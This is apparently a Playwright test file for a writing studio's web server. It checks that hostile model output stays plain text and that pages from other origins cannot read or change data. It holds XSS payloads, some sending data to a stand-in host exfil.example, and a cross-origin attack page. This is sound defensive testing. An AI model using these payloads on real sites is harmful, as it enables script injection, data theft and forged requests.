"""The web studio in a real headless Chromium (Debian's, driven by Playwright) against a real
`fabula serve`: hostile engine output stays text, and a writer's whole path works end to end.

The engine is the fake one serving scripts from a file, so the server (another process) answers
with exactly the payloads under test. Skipped where Chromium is not installed; `.ci/run`
installs it, so CI always runs these.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from fabula.personalize.profiles import ProfileStore
from fabula.settings import Settings
from fabula.store.users import create_key, list_keys, set_password
from tests.test_api import serve

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
pytestmark = pytest.mark.skipif(
    not Path(CHROMIUM).exists() and not os.environ.get("CI"), reason="Debian's chromium is not installed"
)

PAYLOADS = [
    "<script>alert('script')</script>",
    "<img src=x onerror=\"alert('img')\">",
    "<svg onload=alert('svg')></svg>",
    "[click me](javascript:alert('md-link'))",
    "<a href=\"javascript:alert('link')\">a link</a>",
    "![pixel](http://exfil.example/steal?data=SECRET)",
    '<iframe src="http://exfil.example/frame"></iframe>',
    "</pre><script>alert('breakout')</script><pre>",
    "<style>@import url(http://exfil.example/css);</style>",
]
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--disable-quic",
]


def expect(locator: object) -> Any:
    from playwright.sync_api import expect as playwright_expect

    return playwright_expect(locator)  # type: ignore[arg-type]


@pytest.fixture
def browser() -> Iterator[object]:
    playwright = pytest.importorskip("playwright.sync_api")
    with playwright.sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield chromium
        chromium.close()


def _hostile_engine(tmp_path: Path, scripts: list[str], delay: float = 0.0) -> str:
    path = tmp_path / "hostile-engine.json"
    path.write_text(json.dumps({"scripts": scripts, "word_delay": delay}), encoding="utf-8")
    return str(path)


def _watch(page: object, base: str) -> tuple[list[str], list[str]]:
    """Record every dialog (and dismiss it) and every request to another host."""
    dialogs: list[str] = []
    foreign: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))  # type: ignore[attr-defined]
    page.on(  # type: ignore[attr-defined]
        "request", lambda r: None if r.url.startswith(base) or r.url.startswith("data:") else foreign.append(r.url)
    )
    return dialogs, foreign


def test_hostile_output_is_shown_as_text_with_no_dialog_and_no_request_elsewhere(
    browser: object, fabula_home: Path, tmp_path: Path
) -> None:
    payload = " ".join(PAYLOADS)
    model = _hostile_engine(tmp_path, [payload])
    for base in serve(fabula_home, {"FABULA_ENGINE": "fake", "FABULA_MODEL": model}):
        page = browser.new_page()  # type: ignore[attr-defined]
        dialogs, foreign = _watch(page, base)
        page.goto(base + "/")
        page.wait_for_selector("#studio:not([hidden])")
        page.select_option("#form", "fabula-story")
        page.fill("#prompt", "Tell me a story. " + PAYLOADS[0])  # hostile prompt too (shown in the works list)
        page.fill("#candidates", "2")
        page.click("#go")
        expect(page.locator("#status")).to_have_text("done", timeout=30_000)
        page.click("#work-list li")
        page.wait_for_selector("#work-view:not([hidden])")
        page.wait_for_timeout(500)  # give any injected handler, image or frame its chance to fire
        output = page.text_content("#output")
        for marker in ("<script>", "onerror=", "javascript:", "exfil.example", "<iframe"):
            assert marker in output, marker  # shown literally, as text
        assert "javascript:" in page.text_content("#candidate-list")
        assert "<script>" in page.text_content("#work-text")
        # nothing became markup: no element the payloads could have made exists in the page
        for selector in (
            "script:not([src])",
            "img",
            "svg",
            "iframe",
            "a[href^='javascript']",
            "#output *",
            "#work-text *",
        ):
            assert page.query_selector_all(selector) == [], selector
        assert dialogs == []
        assert foreign == []
        page.close()


def test_sign_in_write_a_poem_watch_it_stream_pick_a_candidate_and_find_it(
    browser: object, fabula_home: Path, tmp_path: Path
) -> None:
    settings = Settings(home=fabula_home)
    profiles = ProfileStore(settings.db_url)
    profiles.add_user("ada", {})
    set_password(profiles.engine, "ada", "correct horse battery")
    create_key(profiles.engine, "ada", "cli")  # a key exists: the server is in multi-user mode
    verses = [
        "Salt wind on the glass\nthe keeper counts the dark ships\none light answers back",
        "Night tide, no answer\nher lamp turns above the rocks\nthe gulls keep their watch",
        "Frost on the railing\nthe bell buoy rings for no one\nshe trims the wick twice",
    ]
    model = _hostile_engine(tmp_path, verses, delay=0.05)
    for base in serve(fabula_home, {"FABULA_ENGINE": "fake", "FABULA_MODEL": model}):
        page = browser.new_page()  # type: ignore[attr-defined]
        dialogs, foreign = _watch(page, base)
        page.goto(base + "/")
        page.wait_for_selector("#login:not([hidden])")
        page.fill("#login-user", "ada")
        page.fill("#login-password", "wrong")
        page.click("#login-form button")
        expect(page.locator("#login-error")).to_have_text("wrong user or password")
        page.fill("#login-password", "correct horse battery")
        page.click("#login-form button")
        page.wait_for_selector("#studio:not([hidden])")
        assert "ada" in page.text_content("#who")

        # one candidate streams: count the distinct texts the output shows before it is done
        page.select_option("#form", "fabula-poem")
        page.fill("#prompt", "the lighthouse at night")
        page.fill("#candidates", "1")
        # (polled from here: the page's CSP forbids the eval that in-page observers would need)
        page.click("#go")
        seen = set()
        deadline = time.monotonic() + 30
        while page.text_content("#status") != "done" and time.monotonic() < deadline:
            seen.add(page.text_content("#output"))
        assert len(seen - {""}) >= 3, f"the poem arrived in one piece, not as a stream: {seen}"
        assert page.text_content("#output").strip()

        # three candidates side by side; pick one that the ranker did not choose
        page.fill("#candidates", "3")
        page.click("#go")
        expect(page.locator("#candidate-list .candidate")).to_have_count(3, timeout=30_000)
        cards = page.query_selector_all("#candidate-list .candidate")
        index = next(i for i, c in enumerate(cards) if "chosen" not in (c.get_attribute("class") or ""))
        picked_text = cards[index].query_selector("pre").text_content()
        # the card opens with the prose and a reason in words; the figures wait behind a toggle
        assert cards[index].query_selector("p.why").text_content().startswith("Not chosen")
        assert not cards[index].query_selector("details").get_attribute("open")
        assert "rank_score" not in cards[index].query_selector("h4").text_content()
        cards[index].query_selector("button.pick").click()
        expect(page.locator("#status")).to_have_text(f"picked candidate {index + 1}")
        assert page.text_content("#output") == picked_text

        # the works list has it, and opening it shows the picked text and its provenance
        page.wait_for_selector("#work-list li")
        page.click("#work-list li >> nth=0")
        expect(page.locator("#work-provenance")).to_contain_text('"picked_by": "ada"')
        assert page.text_content("#work-text") == picked_text
        with page.expect_download() as download:
            page.click("button.export[data-format='txt']")
        assert Path(download.value.path()).read_text(encoding="utf-8").strip() == picked_text.strip()

        # signing out ends the session on the server, not only in the tab
        assert [k["label"] for k in list_keys(profiles.engine, "ada")] == ["cli", "session"]
        page.click("#logout")
        page.wait_for_selector("#login:not([hidden])")
        assert [k["label"] for k in list_keys(profiles.engine, "ada")] == ["cli"]
        page.reload()  # the tab forgot the key too
        page.wait_for_selector("#login:not([hidden])")
        assert dialogs == [] and foreign == []
        page.close()


def test_the_api_reference_renders_under_the_servers_policy(browser: object, fabula_home: Path) -> None:
    """/docs and /redoc were blank: FastAPI's pages load their scripts from a CDN and start them
    inline, and the server's CSP blocks both. They are now served from an installed package."""
    for base in serve(fabula_home, {"FABULA_ENGINE": "fake"}):
        for path in ("/docs", "/redoc"):
            page = browser.new_page()  # type: ignore[attr-defined]
            blocked: list[str] = []
            page.on("console", lambda m, seen=blocked: seen.append(m.text) if "Security Policy" in m.text else None)  # type: ignore[attr-defined]
            dialogs, foreign = _watch(page, base)
            page.goto(base + path)
            page.wait_for_selector("text=Chat Completions", timeout=30_000)
            text = page.inner_text("body")
            for operation in ("List Works", "Login", "Logout", "Train", "Write Work"):
                assert operation in text, (path, operation)
            # ReDoc's footer logo is the one thing it fetches from elsewhere, and the policy stops it
            elsewhere = {u for u in foreign if not u.startswith("blob:" + base)}  # ReDoc's search worker
            assert elsewhere <= {"https://cdn.redoc.ly/redoc/logo-mini.svg"}, foreign
            assert all("cdn.redoc.ly" in b for b in blocked), blocked
            assert dialogs == []
            page.close()


ATTACK_PAGE = """<!doctype html><html><body>
<form id="f" method="POST" enctype="application/x-www-form-urlencoded" target="sink">
  <input name="corpus" value="austen"><input name="name" value="evil">
</form>
<iframe name="sink"></iframe>
<script>
const target = "TARGET";
const results = [];
async function attack() {
  const story = JSON.stringify({model: "fabula-story", messages: [{role: "user", content: "pwned"}]});
  for (const path of ["/v1/chat/completions", "/api/works", "/api/plans"]) {
    try { await fetch(target + path, {method: "POST", mode: "no-cors", body: story,
                                      headers: {"Content-Type": "text/plain"}}); } catch (e) {}
  }
  try { const r = await fetch(target + "/api/works"); results.push("read:" + (await r.text()).length); }
  catch (e) { results.push("read-blocked"); }
  await new Promise((done) => {
    const ws = new WebSocket(target.replace("http", "ws") + "/api/stream/ws?persona=any");
    ws.onmessage = (m) => { results.push("ws-message"); };
    ws.onclose = () => { results.push("ws-closed"); done(); };
    ws.onerror = () => {};
    setTimeout(done, 3000);
  });
  const form = document.getElementById("f");
  form.action = target + "/api/train";
  form.submit();
  await new Promise((done) => setTimeout(done, 1500));
  document.title = "done " + results.join(",");
}
attack();
</script></body></html>"""


def test_a_page_on_another_origin_in_a_real_browser_changes_and_reads_nothing(
    browser: object, fabula_home: Path, tmp_path: Path
) -> None:
    """No-cors fetches, a plain HTML form, a cross-origin read and a WebSocket from a page served
    on another origin, against a local-mode server (no key to steal): nothing changes, nothing is
    read. The same page against a server told to trust that origin does write: the attack is real."""
    import functools
    import http.server
    import threading

    site = tmp_path / "site"
    site.mkdir()
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(site))
    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    origin = f"http://localhost:{attacker.server_address[1]}"
    threading.Thread(target=attacker.serve_forever, daemon=True).start()

    def attack(base: str) -> str:
        (site / "index.html").write_text(ATTACK_PAGE.replace("TARGET", base), encoding="utf-8")
        page = browser.new_page()  # type: ignore[attr-defined]
        page.goto(origin + "/index.html")  # another origin than the server's
        page.wait_for_function("document.title.startsWith('done')", timeout=30_000)
        title: str = page.title()
        page.close()
        return title

    try:
        for base in serve(fabula_home, {"FABULA_ENGINE": "fake"}):
            title = attack(base)
            assert "read:" not in title and "ws-message" not in title, title  # nothing was read
            assert httpx.get(base + "/api/works").json()["works"] == []  # nothing was written
            assert httpx.get(base + "/api/plans").json()["plans"] == []
            assert httpx.get(base + "/api/jobs").json()["jobs"] == []
        for base in serve(tmp_path / "trusting", {"FABULA_ENGINE": "fake", "FABULA_API_ALLOWED_ORIGINS": origin}):
            attack(base)
            assert httpx.get(base + "/api/works").json()["works"] != []  # the control: the page does write
    finally:
        attacker.shutdown()
        attacker.server_close()


def test_the_browser_tests_run_in_ci() -> None:
    """CI installs Chromium, so there a missing browser is a failure, not a skip."""
    if os.environ.get("CI"):
        assert Path(CHROMIUM).exists(), "chromium is missing in CI: .ci/run installs it"
    assert subprocess.run([sys.executable, "-c", "import playwright"], check=False).returncode == 0


def test_the_plan_view_shows_the_ledger_with_both_sentences_and_pins_a_fact(
    browser: object, fabula_home: Path, settings: Settings
) -> None:
    """A story whose second chapter has a dead man smile: the studio lists the contradiction with
    both sentences and the cast's state, and a fact pinned there is kept by the server."""
    from fabula.backends.fake import FakeBackend
    from fabula.plan.cowrite import new_plan
    from fabula.plan.runner import PlanWriter
    from fabula.plan.store import PlanStore
    from tests.test_continuity import CHAPTER_ONE, CONTRADICTING, FITTING
    from tests.test_plan import SCRIPT

    store = PlanStore(settings.ensure_home())
    plan = new_plan("story", "A keeper and a smuggler.", template="kishotenketsu", cast=2, seed=1, context=False)
    chapters = [CHAPTER_ONE, CONTRADICTING, CONTRADICTING, CONTRADICTING, FITTING, FITTING + " Later."]
    PlanWriter(FakeBackend("scripted", settings, scripts=SCRIPT[:5] + chapters), store.save).run(plan)
    for base in serve(fabula_home, {"FABULA_ENGINE": "fake"}):
        page = browser.new_page()  # type: ignore[attr-defined]
        dialogs, foreign = _watch(page, base)
        page.goto(base + "/")
        page.wait_for_selector("#plan-list li")
        page.click("#plan-list li >> nth=0")
        found = page.locator("#ledger-contradictions li >> nth=0")
        expect(found).to_contain_text("dead_acts: Tomas is dead (chapter 1) but smiled in chapter 2")
        expect(found.locator("blockquote >> nth=0")).to_contain_text("At midnight Tomas drowned off the reef")
        expect(found.locator("blockquote >> nth=1")).to_contain_text("Tomas smiled at Mara from the doorway")
        expect(page.locator("#ledger-table tbody")).to_contain_text("no (chapter 1)")
        page.fill("#pin-entity", "Mara")
        page.select_option("#pin-attribute", "eyes")
        page.fill("#pin-value", "grey")
        page.click("#pin-form button")
        expect(page.locator("#ledger-pins li")).to_have_text("Mara eyes grey from unit 1 Unpin")
        if os.environ.get("FABULA_SCREENSHOTS"):  # the README's picture of the ledger
            shot = Path(os.environ["FABULA_SCREENSHOTS"]) / "studio-ledger.png"
            page.locator("#plan-ledger").screenshot(path=str(shot))
        assert [(p.entity, p.value) for p in store.load(plan.id).pins] == [("Mara", "grey")]
        assert dialogs == [] and foreign == []
        page.close()
